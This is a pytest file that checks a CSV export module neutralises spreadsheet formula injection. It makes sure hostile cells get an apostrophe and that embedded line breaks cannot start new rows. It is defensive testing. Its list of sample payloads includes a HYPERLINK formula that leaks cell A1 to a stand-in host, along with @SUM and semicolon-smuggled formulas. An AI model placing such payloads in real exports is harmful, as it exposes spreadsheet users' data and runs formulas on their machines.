"""The one CSV writer: no cell a spreadsheet reads may start a formula, whether
it splits on commas (honouring quotes) or on semicolons (where quotes count
only at the start of its own cells), and no cell spills into another row."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from explorer import export, spreadsheet, store
from explorer.app import tables
from explorer.cli import app
from explorer.formats import kumu
from explorer.graph import View, make_view

DATA = Path(__file__).parent / "data"
FORMULAS = DATA / "spreadsheet-formulas.yaml"
HOSTILE = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")', "@SUM(1+1)", "+1", "-2+3",
    "\tTAB", "\rCR first", "A pact.\r@SUM(1+1)", "two\nlines\n=1+1", "x;=1+1", "x;@A1;-1",
    'say "hi", then ;', "plain text", "",
]


def _cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula_cells(text: str) -> None:
    """What a spreadsheet reads, split on commas or on semicolons: no cell may
    start with = + - @ tab or CR unless it is a number."""
    for delimiter in (",", ";"):
        for row in _cells(text, delimiter):
            for value in row:
                assert not (value.startswith(spreadsheet.FORMULA_START)
                            and not _is_number(value)), (delimiter, value)


def test_every_hostile_cell_stays_one_inert_cell():
    table = pd.DataFrame({"text": HOSTILE, "number": [-0.5] * len(HOSTILE)})
    text = spreadsheet.to_csv(table)
    assert_no_formula_cells(text)
    rows = _cells(text, ",")
    assert rows[0] == ["text", "number"]
    assert len(rows) == len(HOSTILE) + 1  # nothing spilled into a new row
    for original, (written, number) in zip(HOSTILE, rows[1:], strict=True):
        assert number == "-0.5"  # numbers stay numbers
        assert written.replace("'", "") == original.replace("'", "")  # only apostrophes added


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"), ("x;=1+1", "\"x;'=1+1\""), ("A.\r@SUM(1+1)", "\"A.\r'@SUM(1+1)\""),
    ('a "b"', '"a ""b"""'), ("a,b", '"a,b"'), ("a\nb", '"a\nb"'), ("a;b", '"a;b"'),
    ("plain", "plain"), (-2.5, "-2.5"), (3, "3"), (None, ""), (float("nan"), ""),
])
def test_cell(value, written):
    assert spreadsheet.cell(value) == written


def _view(path: Path, **params) -> View:
    from explorer.graph import ViewParams

    return make_view(store.load(path), ViewParams(**params))


def test_stats_csv_neutralises_names():
    result = CliRunner().invoke(app, ["stats", "--data", str(FORMULAS), "--no-project",
                                      "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_no_formula_cells(result.stdout)
    rows = {row[0]: row[1] for row in _cells(result.stdout, ",")[1:]}
    assert rows["at-sum"] == "'@SUM(1+1)"
    assert rows["semicolon"] == "x;'=1+1"
    assert rows["NEG"] == "'-2+3"
    assert rows["hyperlink"].startswith("'=HYPERLINK(")


def test_kumu_sheets_neutralise_names_and_summaries(tmp_path):
    view = _view(FORMULAS)
    (path,) = export.write(view, "csv", tmp_path / "kumu.zip")
    with zipfile.ZipFile(path) as archive:
        sheets = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    for text in sheets.values():
        assert_no_formula_cells(text)
    labels = {row[0]: row[1] for row in _cells(sheets["elements.csv"], ",")[1:]}
    assert labels["at-sum"] == "'@SUM(1+1)"
    connections = {row[0]: row for row in _cells(sheets["connections.csv"], ",")[1:]}
    assert connections["hyperlink-at-sum-pressure"][6] == "'=1+1"  # Description
    years = kumu.years_in_force(dt.date(2023, 3, 1), None)
    assert connections["semicolon-dde-alliance"][7] == "|".join(["'@tag", "plain", *years])


def test_a_carriage_return_in_a_summary_starts_no_row(tmp_path):
    view = _view(FORMULAS)
    graph = view.graph.copy()
    for *_, d in graph.edges(keys=True, data=True):
        d["summary"] = "A pact.\r@SUM(1+1)"
    hostile = View(view.params, view.dataset, graph)
    written = export.write(hostile, "csv", tmp_path / "kumu")
    connections = written[1].read_bytes().decode("utf-8")
    assert_no_formula_cells(connections)
    rows = _cells(connections, ",")
    assert len(rows) == 1 + graph.number_of_edges()
    assert {row[6] for row in rows[1:]} == {"A pact.\r'@SUM(1+1)"}


def test_app_downloads_use_the_same_writer():
    table = pd.DataFrame({"name": ["@SUM(1+1)", "x;=1+1"], "confidence": [-0.5, 0.5]})
    text = tables.to_csv(table).decode("utf-8")
    assert text == spreadsheet.to_csv(table)
    assert_no_formula_cells(text)


def test_every_csv_goes_through_the_one_writer():
    """pandas' `to_csv` and the `csv` module write formulas as they are: only
    explorer/spreadsheet.py may write CSV."""
    import re

    package = Path(__file__).resolve().parent.parent / "explorer"
    writers = re.compile(r"\.to_csv\(|\bcsv\.writer\(|\bcsv\.DictWriter\(")
    found = [f"{path.relative_to(package)}:{number}"
             for path in package.rglob("*.py") if path.name != "spreadsheet.py"
             for number, line in enumerate(path.read_text("utf-8").splitlines(), 1)
             if writers.search(line)
             and not re.search(r"\b(spreadsheet|tables)\.to_csv\(", line)]
    assert not found, f"CSV written outside explorer/spreadsheet.py: {found}"
